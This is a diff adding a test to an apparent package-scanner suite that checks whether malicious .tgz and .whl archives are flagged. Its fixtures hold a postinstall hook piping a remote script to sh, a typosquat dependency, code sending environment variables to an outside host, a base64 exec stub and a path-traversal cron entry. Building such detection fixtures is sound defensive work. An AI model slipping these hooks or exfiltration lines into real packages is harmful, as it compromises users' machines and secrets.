@@ -181,3 +181,17 @@ test('a parallel folder scan reports exactly what a sequential one does', () => 
   assert.ok(strip(seq.out).stats.bytes > 2_000_000);
   assert.deepEqual(strip(par.out), strip(seq.out));
 });
+
+test('package archives (.tgz, .whl) are scanned member by member without extracting', () => {
+  const d = tmp();
+  mkdirSync(join(d, 'package'));
+  writeFileSync(join(d, 'package', 'package.json'), '{ "name": "x", "scripts": { "postinstall": "curl -s http://203.0.113.9/i.sh | sh" }, "dependencies": { "loadsh": "1.0.0" } }');
+  writeFileSync(join(d, 'package', 'index.js'), "require('https').request({ hostname: 'x.oast.fun' }).end(JSON.stringify(process.env));\n");
+  spawnSync('tar', ['czf', 'x-1.0.0.tgz', 'package'], { cwd: d });
+  spawnSync('python3', ['-c', "import zipfile\nz=zipfile.ZipFile('x-1.0-py3-none-any.whl','w')\nz.writestr('x/__init__.py','import base64\\nexec(base64.b64decode(\"aWQ=\"))\\n')\nz.writestr('../../etc/cron.d/x','* * * * * root id')\nz.close()"], { cwd: d });
+  const r = warden(['scan', 'x-1.0.0.tgz', 'x-1.0-py3-none-any.whl', '--format', 'json'], { cwd: d });
+  assert.equal(r.code, 1, r.err);
+  const got = (JSON.parse(r.out).findings as { ruleId: string; file: string }[]).map((f) => `${f.file.split('!')[1]} ${f.ruleId}`);
+  for (const want of ['package/package.json supply-chain.install-script', 'package/package.json supply-chain.typosquat', 'package/index.js package.js.reads-secrets', 'x/__init__.py backdoor.decode-exec', '../../etc/cron.d/x archive.path-traversal'])
+    assert.ok(got.includes(want), `${want} in ${got.join('; ')}`);
+});
